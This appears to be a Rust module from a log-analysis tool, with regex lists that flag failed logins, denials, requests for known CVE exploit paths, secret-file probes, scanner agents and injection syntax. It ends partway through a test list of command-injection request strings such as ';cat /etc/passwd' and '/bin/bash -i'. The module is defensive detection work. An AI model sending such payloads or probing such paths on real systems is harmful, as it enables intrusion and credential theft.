//! What one log line says in words that any service uses: an authentication failure, a denial
//! or rejection, a destination port, a request for a known-exploited path or payload, a
//! scanner's user agent, a secret file asked for.
//!
//! These are the project's own phrase lists, written for logs in general rather than for one
//! daemon's grammar: fail2ban, Wazuh and CrowdSec each keep a regular expression per service,
//! while a small business's server writes many services' phrasings of the same few events.
//! [`crate::analyze::facts`] counts them per window and [`crate::analyze::floors`] turns the counts into the
//! least verdict the model may give.

use std::sync::LazyLock;

use regex::{Regex, RegexSet};

use crate::util::percent::decode;

/// What a line reports about an attempt to get in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attempt {
    /// A failed authentication (wrong password, unknown user, a client that gave up or was
    /// cut off during authentication).
    AuthFailure,
    /// A request refused by policy: a mail relay or sender rejected, a client denied by
    /// configuration or a blocklist, a connection refused or blocked.
    Denial,
}

static AUTH_FAILURE: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        // Wrong secrets, in the words of sshd, PAM, web servers, mail and FTP daemons,
        // databases and web applications.
        r"(?i)\b(?:failed|invalid|incorrect|wrong|bad|unknown) (?:password|passwd|credentials?|login|logon|user(?:name)?|account|pass(?:phrase)?|auth(?:entication)?|secret|pin)\b",
        r"(?i)\b(?:authentication|authorization|auth|login|logon|log-in|sign-?in|password|sasl \w+ authentication) (?:has )?(?:failed|failure|error|incorrect|denied|rejected|invalid|mismatch|unsuccessful)",
        r"(?i)\bfail(?:ed|ure)? (?:to )?(?:authenticat|login|logon|log in|sign in|verify password)",
        r"(?i)\b(?:could ?n[o']t|can ?not|cannot|unable to|not) authenticat",
        r"(?i)\bunsuccessful (?:login|logon|authentication|attempt)",
        r"(?i)\b(?:authentication|auth|login|logon) (?:of|for|by) \S+ (?:has )?failed\b",
        r"(?i)\blogin incorrect|\baccess denied for user\b|\bpermission denied \(publickey",
        r"(?i)\buser(?:name)? (?:\S+ )?(?:was )?not found\b|\buser ['\x22]?\S*['\x22]? (?:does not exist|unknown)",
        r"(?i)\b(?:maximum|too many) (?:authentication|login|auth) (?:attempts|failures)",
        // sshd: a client that disconnects or is cut off while authenticating, before any
        // key is accepted, is guessing (or probing) too.
        r"(?i)(?:disconnected from|connection closed by|received disconnect from) (?:invalid |authenticating )user\b",
        r"(?i)\bauthenticating user \S+ \S+ port \d+ \[preauth\]",
        r"(?i)\btimeout before authentication\b",
        // A connection that ends before any authentication (`Connection closed by X port N
        // [preauth]`, `Received disconnect from X: 11: Bye Bye [preauth]`): one is a client
        // that gave up, a burst of them from one address is a scanner or a guesser that never
        // gets as far as a password.
        r"(?i)\b(?:connection (?:closed|reset) by|disconnected from|received disconnect from) [0-9a-f.:]+(?: port \d+)?(?::\s*\d+:[^\[]{0,80})? \[preauth\]",
        // Clients that never get as far as a password: SSH scanners and exploit probes fail
        // the banner or key exchange, again and again.
        r"(?i)\bdid not receive identification string\b|\bbanner exchange: .{0,80}invalid format|\bunable to negotiate with\b|\bkex_exchange_identification\b|\bbad protocol version identification\b",
        // Other services' phrasings: unknown accounts, failed attempts, bad tokens and
        // certificates, audit records, LDAP and VoIP security events.
        // `user  not found` (an empty name), `User x doesn't exist`, `User not known to …`.
        r"(?i)\buser(?:name)?\s+(?:\S+\s+)?(?:was\s+)?not found\b|\b(?:user|account|login)\s+\S{0,64}\s*(?:does ?n[o']t exist|not known to)\b",
        r"(?i)\b(?:can'?t|cannot|could not|unable to) (?:find|retrieve|map) (?:the )?(?:\w+ ){0,3}(?:user|account|login)\b|\b(?:nonexistent|non-existent) (?:user|account|login)\b",
        // `Authentication attempt from x for user "y" failed`, `Login attempt failed`,
        // `Login with username x from y failed`, SIP's `Registration from '…' failed for '…'`.
        r"(?i)\b(?:login|logon|authentication|authorization|auth|sign-?in|password) (?:attempt|of)\b.{0,120}?\bfail(?:ed|ure)?\b|\blog(?:in|on) (?:with|as|for|of)\b.{0,80}?\bfail(?:ed|ure)\b|\b(?:registration|request)\b.{0,160}?\bfailed for\b",
        r"(?i)\bfailed (?:\w+ ){0,2}(?:authentication|login|logon)\b|\bfailed (?:hostbased|gssapi\S*) for\b|\bauthentication\s*:\s*fail(?:ed|ure)\b|(?-i:\bAUTHFAIL\b)|\bbadlogin\b|\bbad (?:rcon|login)\b|\bauthenticate\(\)(?: for user \S+)? failed\b",
        r"(?i)\b(?:invalid|wrong|bad|incorrect) (?:\w+ ){1,2}(?:password|passphrase|credentials|secret)\b|\b(?:invalid|wrong|bad|incorrect) (?:(?:admin|api|access|auth(?:entication)?|totp|otp|2fa|mfa|two-factor|verification|one-time) )(?:token|code|password)\b|\bpassword (?:is )?(?:incorrect|invalid|wrong)\b|\bpassword (?:does ?n[o']t|did ?n[o']t) match\b",
        r"(?i)\b(?:username|user name|login) (?:or|and|/) password (?:is |was )?(?:incorrect|invalid|wrong)\b|\bauth=0/[1-9]",
        r"(?i)\bauth fail\b|\bno (?:supported )?authentication methods available\b|\brealm mismatch\b|\buser\b[^.;]{0,80}?\bnot found\b",
        r"(?i)\bmax(?:imum)? (?:auth(?:entication)?|login) tries\b|\bexit before auth\b|\broot login (?:attempted|not allowed|refused|denied)\b",
        // sshd refusing an account its AllowUsers, DenyUsers, AllowGroups or DenyGroups rule
        // (or a locked account) keeps out: a login attempt that failed, not a policy refusal
        // of a request.
        r"(?i)\buser \S+ from \S+ not allowed because\b|\buser \S+ not allowed because account is locked\b",
        r"(?i)\b(?:peer|client) did not return a certificate\b|\bverify error\b|\bcertificate verif\w* failed\b",
        // Linux audit, LDAP's invalid credentials, sendmail's and Asterisk's security events.
        r#"(?i)\btype=USER_(?:AUTH|LOGIN|ERR)\b.*\bres=fail(?:ed)?\b|\bRESULT\b.*\berr=49\b|\bpossible SMTP attack: command=AUTH\b|\bSecurityEvent="(?:Invalid(?:AccountID|Password)|ChallengeResponseFailed)""#,
    ])
    .expect("auth failure phrases compile")
});

static DENIAL: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        r"(?i)\b(?:relay|access|client|request|login|sender|recipient|helo|user) (?:access )?(?:is )?(?:denied|rejected|refused|blocked|forbidden|not permitted)\b|\bconnection (?:denied|rejected|blocked|forbidden|not permitted)\b",
        r"(?i)\b(?:reject|rejected|blocked|banned)(?::| by| due to| using| from)|\brefused (?:from|due to)\b|\bdenied (?:by|due to|using|from)\b",
        r"(?i)\bNOQUEUE: reject\b|\bblocked using\b|\blisted (?:at|in|on) \S+|\bblacklist(?:ed)?\b|\bblocklist(?:ed)?\b",
        r"(?i)\bclient denied by server configuration\b|\baccess forbidden by rule\b|\brefused connect from\b",
        r"(?i)\bimproper command pipelining\b|\bspam (?:detected|score|message)|\bidentified as spam\b|\bdid not issue (?:MAIL|HELO|EHLO)",
        r"(?i)\b(?:limiting requests|limiting connections|rate limit(?:ed)? exceeded|too many requests)\b",
        // Policy refusals of mail, DNS and VoIP servers, ACLs, blocklists and bans.
        // `Connection from [x] rejected for policy reasons`, `Rejected connection from`,
        // `rejected RCPT`, `rejected after DATA`, `Rejecting unknown SIP connection`.
        r#"(?i)\b(?:reject(?:ed|ing)|refus(?:ed|ing))\s+(?:for\b|because\b|connection\b|commands?\b|request\b|rcpt\b|mail\b|helo\b|ehlo\b|after\b|unknown\b|"\w+")|\breject=[45]\d\d\b|\[rejected\]"#,
        r"(?i)\brelay(?:ing)? (?:attempt\b.{0,160}?)?(?:denied|blocked|not permitted|refused|rejected)\b|\bspam attack\b|\bflagged as spam\b|\bunknown recipient\b|\bsender verify fail",
        // DNS: `query 'x/NS/IN' denied`, `axfr for zone x from client y refused`.
        r"(?i)\b(?:query|axfr|ixfr|update|zone transfer)\b.{0,80}?\b(?:denied|refused)\b|\bratelimit block\b|\bbad zone transfer\b",
        r#"(?i)\b(?:is|are|was|were) not allowed to\b|\bnot allowed (?:because|from|for)\b|\b(?:access|login|connection|host|client|user|method|relay)[ -]not[ -]allowed\b|\b\w+_DENIED\b|\b(?:rbl|dnsbl|rblsmtpd|badiprbl|libwrap)\b|\bdelaying requests?\b|\btoo many (?:\w+ ){0,3}(?:errors|commands)\b|\btried to use (?:disabled|disallowed)\b|\bFailedACL\b|\blogin disabled\b"#,
        r"(?i)\bhacking attempt\b|\battack detected\b|\bsmtp protocol (?:synchronization )?error\b|\b5\d\d(?: \d\.\d\.\d+)? .{0,20}\buser (?:<[^>]*> )?unknown\b|\bALERT - .*\(attacker\b|\bFAIL: \S+ (?:address|libwrap)\b",
        r"(?i)\bby (?:DROP in |'\w+' )?ACL\b|\bpre-?greet|\bCOMMAND (?:TIME|COUNT|LENGTH) LIMIT\b",
        // fail2ban's own `Ban 1.2.3.4`, `blocked 1.2.3.4`.
        r"\b(?:Ban|[Bb]locked|[Bb]anned|[Bb]locking) [0-9a-fA-F:.]{7,}",
    ])
    .expect("denial phrases compile")
});

/// Whether `line` reports a failed authentication or a refused request, and which.
pub fn attempt(line: &str) -> Option<Attempt> {
    if AUTH_FAILURE.is_match(line) {
        Some(Attempt::AuthFailure)
    } else if DENIAL.is_match(line) {
        Some(Attempt::Denial)
    } else {
        None
    }
}

static MAIL_WORDS: LazyLock<Regex> = LazyLock::new(|| {
    // `sm-mta` is sendmail's syslog tag on Debian and its derivatives; `ruleset=check_…` its
    // policy checks.
    Regex::new(r"(?i)\b(?:postfix|smtpd?|exim|sendmail|sm-mta|sm-msp-queue|qmail|dovecot|imapd?|pop3d?|courier|cyrus|RCPT|MAIL FROM|HELO|EHLO|relay|spam|sasl)\b|\bruleset=check_")
        .expect("mail words compile")
});

/// Whether `line` is a mail service's (SMTP, IMAP, POP3): its denials are mail abuse.
pub fn is_mail(line: &str) -> bool {
    MAIL_WORDS.is_match(line)
}

static LOGIN_PATH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(?:^|/)(?:wp-login\.php|xmlrpc\.php|login|log-in|logon|signin|sign-in|sign_in|auth(?:enticate)?|session|sessions|token|oauth/token|j_security_check|user/login|users/authenticatebyname|users/sign_in|admin/login|account/login|api/(?:v\d+/)?(?:auth|login|users?/(?:login|authenticate|authenticatebyname))|index\.php\?(?:.*&)?(?:action|task|option)=(?:login|user\.login|com_login)|administrator/index\.php)(?:$|[/?#.])",
    )
    .expect("login path pattern compiles")
});

/// Whether a request posts credentials: a POST to a login endpoint.
pub fn is_login_request(method: &str, target: &str) -> bool {
    method.eq_ignore_ascii_case("POST") && LOGIN_PATH.is_match(target)
}

static WEB_APP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:https?|web|remote ip|remote_addr|x-forwarded-for|grafana|nextcloud|owncloud|jellyfin|emby|plex|gitea|gitlab|wordpress|drupal|joomla|roundcube|sonarr|radarr|prowlarr|lidarr|readarr|bazarr|bitwarden|vaultwarden|home ?assistant|guacamole|webmin|phpmyadmin|zoneminder|portainer|proxmox|pfsense|opnsense|sogo|horde|tine20|openhab|centreon|nagios|monit|kerio|synology|dsm|unifi|traefik|authelia|keycloak)\b|/login\b|\bPOST /",
    )
    .expect("web app words compile")
});

/// Whether a failure line comes from a web application or a web login (not a system login).
pub fn is_web_login(line: &str) -> bool {
    WEB_APP.is_match(line)
}

static SSH_WORDS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:sshd|ssh2|dropbear)\b|\[preauth\]").expect("ssh words compile")
});

/// Whether a line is an SSH server's.
pub fn is_ssh(line: &str) -> bool {
    SSH_WORDS.is_match(line)
}

static DEST_PORT: LazyLock<Regex> = LazyLock::new(|| {
    // iptables `DPT=`, pf/OPNsense and most firewalls `dst=1.2.3.4:22` or `dport=22`,
    // `to 1.2.3.4 port 22`, Zeek-like `dst_port=22`, `destination port: 22`; pfSense's and
    // OPNsense's `filterlog` CSV for IPv4 TCP/UDP (rule fields, then `4,` and the IP header's
    // fields up to the protocol, then length, source, destination, source port, destination
    // port), with the tag or as the bare message a syslog parser hands on.
    Regex::new(concat!(
        r"(?i)(?:\bDPT=|\bd(?:st)?_?port[=:]\s?|\bdestination port:? |\bdst=\d{1,3}(?:\.\d{1,3}){3}:|\bto \S+ port )(?P<port>\d{1,5})\b",
        r"|(?:\bfilterlog(?:\[\d+\])?:\s*|^)(?:[^,]*,){8}4,(?:[^,]*,){7}(?:tcp|udp),\d+,[0-9.]+,[0-9.]+,\d+,(?P<pf>\d{1,5})\b",
    ))
    .expect("port pattern compiles")
});

/// The destination port a firewall or connection line names.
pub fn destination_port(line: &str) -> Option<u16> {
    DEST_PORT
        .captures(line)
        .and_then(|c| c.name("port").or_else(|| c.name("pf")))
        .and_then(|m| m.as_str().parse::<u16>().ok())
        .filter(|&p| p > 0)
}

/// A known-exploited request: what it targets and, where there is one, its CVE.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Exploit {
    /// What is exploited, in a few words.
    pub name: &'static str,
    /// The CVE id, when the request matches one.
    pub cve: Option<&'static str>,
}

struct ExploitPattern {
    pattern: &'static str,
    exploit: Exploit,
}

const fn x(pattern: &'static str, name: &'static str, cve: Option<&'static str>) -> ExploitPattern {
    ExploitPattern {
        pattern,
        exploit: Exploit { name, cve },
    }
}

/// Requests for paths and payloads of widely exploited flaws (CISA's known-exploited list and
/// the probes that internet-wide scanners send), matched on the decoded line.
const EXPLOITS: &[ExploitPattern] = &[
    x(
        r"(?i)\$\{(?:\$\{[^}]*\}|[^}])*?(?:j|\$\{[^}]*j[^}]*\})(?:\$\{[^}]*\}|[^}])*?(?:n|\$\{[^}]*n[^}]*\})(?:\$\{[^}]*\}|[^}])*?(?:d|\$\{[^}]*d[^}]*\})(?:\$\{[^}]*\}|[^}])*?(?:i|\$\{[^}]*i[^}]*\})[^}]*?:",
        "Log4j JNDI lookup (Log4Shell)",
        Some("CVE-2021-44228"),
    ),
    x(
        r"(?i)\$\{jndi:",
        "Log4j JNDI lookup (Log4Shell)",
        Some("CVE-2021-44228"),
    ),
    x(
        r"(?i)eval-stdin\.php",
        "PHPUnit eval-stdin.php remote code execution",
        Some("CVE-2017-9841"),
    ),
    x(
        r"(?i)class\.module\.classloader",
        "Spring Framework class loader manipulation (Spring4Shell)",
        Some("CVE-2022-22965"),
    ),
    x(
        r"(?i)spring\.cloud\.function\.routing-expression",
        "Spring Cloud Function SpEL injection",
        Some("CVE-2022-22963"),
    ),
    x(
        r"(?i)[%$]\{.{0,40}(?:#_memberaccess|@java\.lang\.runtime|getruntime\(\)|ognl|#context\[|new java\.lang\.processbuilder|@org\.apache)",
        "OGNL expression injection (Confluence/Struts)",
        Some("CVE-2022-26134"),
    ),
    x(
        r"(?i)createpage-entervariables\.action.*querystring=",
        "Confluence OGNL injection",
        Some("CVE-2021-26084"),
    ),
    x(
        r"(?i)/remote/fgt_lang\?lang=",
        "Fortinet FortiOS SSL VPN path traversal",
        Some("CVE-2018-13379"),
    ),
    x(
        r"(?i)/api/v2/cmdb/system/admin",
        "Fortinet authentication bypass",
        Some("CVE-2022-40684"),
    ),
    x(
        r"(?i)/tmui/login\.jsp/\.\.;|/tmui/.*\bhsqldb\b",
        "F5 BIG-IP TMUI remote code execution",
        Some("CVE-2020-5902"),
    ),
    x(
        r"(?i)/mgmt/tm/util/bash",
        "F5 BIG-IP iControl REST authentication bypass",
        Some("CVE-2022-1388"),
    ),
    x(
        r"(?i)/vpns?/\.\./vpns/|/vpns/cfg/smb\.conf|/vpns/portal/scripts/newbm\.pl",
        "Citrix ADC path traversal",
        Some("CVE-2019-19781"),
    ),
    x(
        r"(?i)/dana-na/\.\./dana/html5acc|/dana-na/.*\.\./",
        "Pulse Secure VPN file read",
        Some("CVE-2019-11510"),
    ),
    x(
        r"(?i)/ui/vropspluginui/rest/services/",
        "VMware vCenter vROps plugin upload",
        Some("CVE-2021-21972"),
    ),
    x(
        r"(?i)/catalog-portal/ui/oauth/verify\?.*\$\{",
        "VMware Workspace ONE template injection",
        Some("CVE-2022-22954"),
    ),
    x(
        r"(?i)/analytics/telemetry/ph/api/hyper/send",
        "VMware vCenter telemetry file upload",
        Some("CVE-2021-22005"),
    ),
    x(
        r"(?i)/autodiscover/autodiscover\.json\?.*(?:@|powershell)|/owa/auth/x\.js|/ecp/[a-z]+\.js\b.*x-beresource",
        "Microsoft Exchange ProxyShell/ProxyLogon",
        Some("CVE-2021-34473"),
    ),
    x(
        r"(?i)(?:\\|/)think\\?(?:\\|/)?app(?:/|\\)invokefunction|\bs=/?index/\\?think",
        "ThinkPHP remote code execution",
        Some("CVE-2018-20062"),
    ),
    x(
        r"(?i)element_parents=.*#(?:post_render|markup)|#(?:post_render|lazy_builder)\]?=",
        "Drupal Form API remote code execution (Drupalgeddon2)",
        Some("CVE-2018-7600"),
    ),
    x(
        r"\(\)\s*\{\s*:?\s*;?\s*\}\s*;",
        "Bash Shellshock",
        Some("CVE-2014-6271"),
    ),
    x(
        r"(?i)/cgi-bin/(?:\.%2e|%2e%2e|\.\.|%%32%65)/|/icons/\.%2e/",
        "Apache HTTP Server path traversal",
        Some("CVE-2021-41773"),
    ),
    x(
        r"(?i)/gponform/diag_form|/boaform/admin/formping",
        "GPON/Boa router command injection",
        Some("CVE-2018-10561"),
    ),
    x(
        r"(?i)/sdk/weblanguage",
        "Hikvision command injection",
        Some("CVE-2021-36260"),
    ),
    x(
        r"(?i)/_ignition/execute-solution",
        "Laravel Ignition remote code execution",
        Some("CVE-2021-3129"),
    ),
    x(
        r"(?i)/wls-wsat/coordinatorporttype|/_async/asyncresponseservice",
        "Oracle WebLogic deserialization",
        Some("CVE-2017-10271"),
    ),
    x(
        r"(?i)/console/(?:css|images)/%25?2e%25?2e%25?2f|/console/.*consolejndi",
        "Oracle WebLogic console bypass",
        Some("CVE-2020-14882"),
    ),
    x(
        r"(?i)/secure/querycomponent!default\.jspa",
        "Jira information disclosure",
        Some("CVE-2020-14179"),
    ),
    x(
        r"(?i)/plugins/servlet/oauth/users/icon-uri\?consumeruri=",
        "Jira server-side request forgery",
        Some("CVE-2017-9506"),
    ),
    x(
        r"(?i)/public/plugins/[\w-]+/(?:\.\./|%2e%2e)",
        "Grafana plugin path traversal",
        Some("CVE-2021-43798"),
    ),
    x(
        r"(?i)/moveitisapi/moveitisapi\.dll",
        "MOVEit Transfer SQL injection",
        Some("CVE-2023-34362"),
    ),
    x(
        r"(?i)/api/v1/totp/user-backup-code/\.\.|/api/v1/license/keys-status/",
        "Ivanti Connect Secure bypass",
        Some("CVE-2023-46805"),
    ),
    x(
        r"(?i)/setup/setup-s/(?:%u002e|\.\.)",
        "Openfire console path traversal",
        Some("CVE-2023-32315"),
    ),
    x(
        r"(?i)/ssl-vpn/hipreport\.esp",
        "PAN-OS GlobalProtect command injection",
        Some("CVE-2024-3400"),
    ),
    x(
        r"(?i)/cgi-bin/luci/;stok=/locale\?form=country",
        "TP-Link router command injection",
        Some("CVE-2023-1389"),
    ),
    x(
        r"(?i)/shell\?cd\+/tmp|/setup\.cgi\?next_file=netgear\.cfg|/cgi-bin/(?:supervisor/)?(?:ping|kerbynet|webproc)\b.*(?:[;|`]|%3b|%7c)",
        "IoT device command injection",
        None,
    ),
    x(
        r"(?i)/hnap1/?\b.*(?:[;|`]|%3b)|soapaction:.*hnap1",
        "D-Link HNAP command injection",
        Some("CVE-2015-2051"),
    ),
    x(
        r"(?i)/(?:solr/admin/info/system|solr/[\w-]+/config)\b.*(?:velocity|params\.resource\.loader)",
        "Apache Solr Velocity template injection",
        Some("CVE-2019-17558"),
    ),
    x(
        r"(?i)/actuator/(?:gateway/routes|env\b.*spring\.cloud)",
        "Spring Cloud Gateway code injection",
        Some("CVE-2022-22947"),
    ),
    x(
        r"(?i)/(?:c99|r57|wso|b374k|alfa(?:shell)?|indoxploit|webshell|shell|cmd|backdoor|leaf(?:mailer)?|mini|up|uploader|x|bypass|priv8|0x|wp-shell)\.(?:php\d?|phtml|aspx?|jsp)\b",
        "web shell or backdoor access",
        None,
    ),
    x(
        r"(?i)/wp-content/plugins/[\w-]+/.*\.php\?.*(?:cmd|exec|command)=",
        "WordPress plugin backdoor",
        None,
    ),
    x(
        r"(?i)/(?:cgi-bin/)?php\d?(?:-cgi)?(?:\.cgi)?\?.*(?:-d\+allow_url_include|%2dd\+allow_url_include|-d allow_url_include)",
        "PHP-CGI argument injection",
        Some("CVE-2012-1823"),
    ),
    x(
        r"(?i)allow_url_include|auto_prepend_file=php://",
        "PHP-CGI argument injection",
        Some("CVE-2024-4577"),
    ),
];

static EXPLOIT_SET: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new(EXPLOITS.iter().map(|e| e.pattern)).expect("exploit patterns compile")
});

/// The known exploit `line` (a request, an agent, a whole log line) carries, read after
/// percent-decoding so that `%24%7Bjndi` is `${jndi`.
pub fn exploit(line: &str) -> Option<Exploit> {
    let decoded = decode(line);
    [line, decoded.as_str()].iter().find_map(|text| {
        EXPLOIT_SET
            .matches(text)
            .iter()
            .next()
            .map(|i| EXPLOITS[i].exploit)
    })
}

/// A kind of probing a single request shows.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Probe {
    /// A file that should never be served (`.env`, `.git/config`, private keys, backups).
    SecretFile,
    /// An absolute URI or CONNECT to another host: a test for an open proxy.
    OpenProxy,
    /// An admin or setup interface asked for by a stranger.
    AdminInterface,
}

static SECRET_FILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(?:^|/)(?:\.env(?:\.\w+)?|\.git/(?:config|head|index)|\.svn/(?:entries|wc\.db)|\.hg/|\.ds_store|\.htpasswd|\.htaccess|\.aws/credentials|\.ssh/(?:id_\w+|authorized_keys)|id_rsa|\.bash_history|\.npmrc|\.docker/config\.json|wp-config\.php[.~_-]\w*|config\.php\.(?:bak|old|save|swp)|(?:backup|db|database|dump|site|www|wwwroot)\.(?:sql|zip|tar\.gz|tgz|rar|7z|bak)|web\.config\.bak|phpinfo\.php|info\.php|server-status|\.vscode/sftp\.json|sftp-config\.json|config\.json\.bak|credentials\.json|secrets?\.(?:ya?ml|json))(?:$|[?#\s])",
    )
    .expect("secret file pattern compiles")
});

static ADMIN_INTERFACE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(?:^|/)(?:phpmyadmin|pma|myadmin|mysqladmin|adminer(?:-[\d.]+)?\.php|manager/html|jmx-console|web-console|administrator/index\.php|admin/config\.php|solr/admin|actuator(?:/[\w-]+)?|console/login|hudson|jenkins/script|setup\.php|install\.php|wp-admin/setup-config\.php|boaform|cgi-bin/(?:test-cgi|admin\.cgi))(?:$|[/?#\s])",
    )
    .expect("admin pattern compiles")
});

/// The probing that one request `target` (path and query) with `method` shows.
pub fn probe(method: &str, target: &str) -> Option<Probe> {
    if method.eq_ignore_ascii_case("CONNECT")
        || target.starts_with("http://")
        || target.starts_with("https://")
    {
        return Some(Probe::OpenProxy);
    }
    let path = decode(target.split(['?', '#']).next().unwrap_or(target));
    if SECRET_FILE.is_match(&path) {
        Some(Probe::SecretFile)
    } else if ADMIN_INTERFACE.is_match(&path) {
        Some(Probe::AdminInterface)
    } else {
        None
    }
}

static SCANNER_AGENT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:sqlmap|nikto|nmap|masscan|zgrab|nuclei|wpscan|dirbuster|dirb|gobuster|feroxbuster|ffuf|wfuzz|acunetix|netsparker|nessus|openvas|w3af|arachni|skipfish|whatweb|jaeles|httpx|interactsh|zmeu|morfeus|jorgee|l9explore|l9tcpid|censysinspect|expanse|paloaltonetworks|hydra|medusa|havij|fimap|commix|xsstrike|owasp zap|zaproxy|burp ?suite|python-requests/[\d.]+ scanner|go-http-client/1\.1 scanner)\b",
    )
    .expect("scanner agents compile")
});

static INJECTION_SYNTAX: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"['"<>`$|{}\\]|\.\.|--|/\*|%00|\x00|\(|\)|;|=\s*/|=[a-z]:[\\/]|://|\b(?:data|expect|php):|/(?:etc|proc|var|windows|winnt|tmp|dev|usr|root|home)/|\b(?:select|union|sleep|benchmark|waitfor|script|onerror|onload|alert|eval|exec|system|passwd|cmd|wget|curl)\b"#)
        .expect("injection syntax pattern compiles")
});

/// Whether a request target's parameter values (or its path) carry the syntax that any
/// injection or traversal needs: quotes, angle brackets, shell and SQL metacharacters, `..`,
/// comment markers, or the keywords of SQL, scripts and shells. `GET /search?q=opening+hours`
/// carries none, so it cannot be an injection whatever the model reads into it.
pub fn injection_syntax(target: &str) -> bool {
    let decoded = decode(target);
    INJECTION_SYNTAX.is_match(&decoded.to_ascii_lowercase())
        || decoded.contains('=')
            && decoded
                .split('&')
                .any(|kv| kv.split_once('=').is_some_and(|(_, v)| v.contains('=')))
}

static FIELD_SYNTAX: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"['"<>`$|{}\\]|\.\.|--|/\*|%00|\b(?:select|union|sleep|benchmark|waitfor|script|onerror|onload|alert|eval|exec|system|passwd|wget|bash|powershell|cmd\.exe|/bin/|/etc/)\b"#)
        .expect("field syntax pattern compiles")
});

/// Whether a header value that browsers fill with ordinary text (a referer, a user agent;
/// parentheses and semicolons are ordinary there) carries injection syntax.
pub fn field_injection_syntax(value: &str) -> bool {
    FIELD_SYNTAX.is_match(&decode(value).to_ascii_lowercase())
}

static SHELL_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        // A command after a shell separator or inside a substitution: `;id`, `|cat /etc/x`,
        // `&&whoami`, a newline, `` `uname` ``, `$(sleep 5)`, `${IFS}`, `{cat,/etc/x}`.
        r"(?:(?:;|\|\|?|&&|\n|`|\$\(|\$\{ifs\}|\{)\s*(?:(?:/usr)?/s?bin/)?",
        r"(?:id|whoami|uname|cat|ls|pwd|wget|curl|nc|ncat|netcat|bash|sh|zsh|dash|ping|",
        r"nslookup|dig|sleep|echo|rm|chmod|python[23]?|perl|ruby|php|powershell|cmd|ifconfig|",
        r"ipconfig|systeminfo|ps|env|printenv|tftp|telnet|busybox|base64|nohup|crontab|",
        r"useradd|hostname|net|type|dir|find|awk|head|tail|more|less|touch|xterm)",
        // … followed by an argument or the end, never by `=` (`;id=3` is a parameter).
        r"(?:$|[\s;|&<>'\x22`),+]|\$\{ifs\})",
        // A parameter whose whole value is a command line: a command, its switches, then a
        // path (`?f=cat /etc/passwd`, `?x=ls -la /`), globbed paths included (`/[e]tc`).
        r"|[?&=](?:cat|ls|id|uname|wget|curl|nc|ncat|bash|sh|ping|rm|chmod|python[23]?|perl|",
        r"php|echo|tftp|busybox|more|head|tail|find)\s+(?:-[a-z]+\s+)*[/~$\[]",
        // A shell named outright, or Windows' command interpreters with their switches.
        r"|/bin/(?:ba|z|k|da)?sh\b|\bcmd(?:\.exe)?\s*/c\b|\bpowershell(?:\.exe)?\s+-",
        r")",
    ))
    .expect("shell command pattern compiles")
});

/// The shell command a request target carries in its query or path (decoded, twice, as
/// attackers double-encode): a command after a separator or in a substitution, or a shell
/// named outright. Ordinary requests have none: `;` and `|` in a query are rare, and never
/// followed by a command name and its argument.
pub fn shell_command(target: &str) -> Option<String> {
    let decoded = decode(target).to_ascii_lowercase();
    // The command line from its separator to the end of its parameter, for the evidence.
    SHELL_COMMAND.find(&decoded).map(|m| {
        let rest = &decoded[m.start()..];
        let line = rest.split(['&', '#']).next().unwrap_or(rest);
        line.trim_start_matches(['?', '='])
            .trim()
            .chars()
            .take(60)
            .collect()
    })
}

static SCAN_WORDS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:port ?scan|scan(?:s|ned|ning|ner)?|nmap|masscan|zmap|syn flood|sweep)\b")
        .expect("scan words pattern compiles")
});

/// Whether a line says that a scan was seen (`portscan detected`, scanlogd's reports, an
/// IDS's `ET SCAN` alerts, `nmap`): a port scan can then be read from one line.
pub fn reports_scan(line: &str) -> bool {
    SCAN_WORDS.is_match(line)
}

static SQL_SYNTAX: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r##"['"#]|--|/\*|@@|\b(?:select|union|insert|update|delete|drop|sleep|benchmark|waitfor|information_schema|pg_sleep|concat|char|having|order\s+by|group\s+by)\b|\b(?:or|and|xor)\b\s*[\w'"]+\s*(?:=|<|>|like\b)"##)
        .expect("SQL syntax pattern compiles")
});

/// Whether a request target (decoded) carries what an SQL injection needs: a quote, a
/// comment marker, SQL's keywords, or a tautology (`or 1=1`). A bare command line
/// (`?x=ls /etc/passwd`) carries none.
pub fn sql_syntax(target: &str) -> bool {
    SQL_SYNTAX.is_match(&decode(target).to_ascii_lowercase())
}

static SCRIPT_SYNTAX: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"[<>]|&#|\b(?:javascript|vbscript|livescript):|\bon[a-z]+\s*=|\b(?:alert|prompt|confirm|eval|expression)\s*\(|\bdocument\.|\bscript\b")
        .expect("script syntax pattern compiles")
});

/// Whether a request target (decoded) carries what cross-site scripting needs: markup,
/// character references, a script scheme, an event handler or a script call.
pub fn script_syntax(target: &str) -> bool {
    SCRIPT_SYNTAX.is_match(&decode(target).to_ascii_lowercase())
}

/// The scanner a user agent names.
pub fn scanner_agent(agent: &str) -> Option<String> {
    SCANNER_AGENT.find(agent).map(|m| m.as_str().to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_commands_in_requests_are_found_and_ordinary_queries_are_not() {
        for attack in [
            "/ping.php?host=127.0.0.1;cat+/etc/passwd",
            "/cgi-bin/test?x=1|id",
            "/run?cmd=a%26%26whoami",
            "/q?a=%60uname%20-a%60",
            "/q?a=$(sleep%205)",
            "/q?a=x;${IFS}cat${IFS}/etc/hosts",
            "/q?a={cat,/etc/passwd}",
            "/q?a=1%250Aid",
            "/x?f=/bin/bash+-i",
            "/x?c=cmd.exe+/c+dir",
